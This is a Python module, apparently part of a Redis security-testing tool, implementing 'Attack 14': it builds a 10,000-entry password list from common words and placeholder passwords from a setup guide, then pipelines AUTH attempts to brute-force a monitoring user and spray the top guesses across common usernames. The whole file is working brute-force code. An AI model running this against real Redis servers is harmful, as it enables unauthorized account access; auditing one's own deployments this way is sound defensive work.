# Copyright: (c) 2026, The rampart.redis contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Attack 14: guess passwords, ten thousand at one user and a few at everybody."""

from __future__ import annotations

from typing import TYPE_CHECKING

from .doors import anonymous, attempt
from .model import APPLICATION, MONITORING, SESSION, Outcome, RefusedError
from .resp import ReplyError, insist

if TYPE_CHECKING:
    from collections.abc import Sequence

    from .model import Target
    from .resp import Connection

GUESSES = 10_000
SPRAYED = 50
_AT_ONCE = 500
# Names that everybody tries, and the guide's.
NAMES = ("default", "admin", "operator", "auditor", "redis", APPLICATION, SESSION, MONITORING)
# What people type, and what the guide has them copy into .env.production.
_WORDS = (
    *("redis", "password", "changeme", "foobared", "secret", "admin", "letmein", "qwerty", "welcome", "dragon"),
    *("your-super-secure-password-here", "session-specific-password", "monitoring-read-only-password"),
    "admin-emergency-password",
)


def words() -> list[str]:
    """Return the list of passwords: each word alone, then with each number behind it."""
    numbered = [f"{word}{number}" for number in range(GUESSES // len(_WORDS) + 1) for word in _WORDS]
    return [*_WORDS, *numbered][:GUESSES]


def guess(target: Target) -> Outcome:
    """Try the whole list at the monitoring user, and the head of it at every name, at every door that opens."""
    listed = words()

    def flood(connection: Connection) -> str:
        return _try(connection, [(MONITORING, word) for word in listed])

    def spray(connection: Connection) -> str:
        return _try(connection, [(name, word) for word in listed[:SPRAYED] for name in NAMES])

    return attempt(anonymous(target), flood, spray)


def _try(connection: Connection, guesses: Sequence[tuple[str, str]]) -> str:
    for start in range(0, len(guesses), _AT_ONCE):
        batch = guesses[start : start + _AT_ONCE]
        for name, word in batch:
            connection.send("AUTH", name, word)
        for number, (name, _word) in enumerate(batch, start + 1):
            reply = connection.read()
            if not isinstance(reply, ReplyError):
                return f"guess {number} of {len(guesses)} opens the account '{name}'"
            if not reply.refusal:
                insist(reply, connection.door, "AUTH")
    raise RefusedError(f"{connection.door}: {len(guesses)} guesses, no hit")
